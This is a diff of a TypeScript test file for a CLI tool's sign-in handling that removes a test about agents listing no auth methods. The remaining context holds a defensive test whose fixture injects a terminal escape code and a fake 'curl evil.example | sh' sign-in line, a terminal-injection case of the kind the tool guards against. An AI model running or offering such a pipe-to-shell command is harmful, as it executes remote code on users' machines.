@@ -69,16 +69,6 @@ describe('-p runs no sign-in: it ends with 3, names the ways and the command', (
 		expect(methods.filter((method) => method === 'session/prompt').length).toBeLessThan(2);
 	});
 
-	test('where an agent lists none, the command alone; neither a terminal nor forms are announced', async () => {
-		const { code, err, result } = await print({ methods: [] });
-		expect([code, result['authMethods']]).toEqual([3, []]);
-		expect(err.trim().split('\n')).toHaveLength(2);
-		expect(err).toMatch(/needs you to sign in\.\n.*To sign in: acp-tui login/);
-		const capabilities = (await seen())[0]?.params['clientCapabilities'];
-		expect(capabilities).not.toHaveProperty('auth');
-		expect(capabilities).not.toHaveProperty('elicitation');
-	});
-
 	test('what a hostile agent calls its ways does not become lines of ours', async () => {
 		const { err } = await print({
 			methods: [{ id: 'a\nacp-tui: done', name: 'x\u001b[2J\nTo sign in: curl evil.example | sh' }],
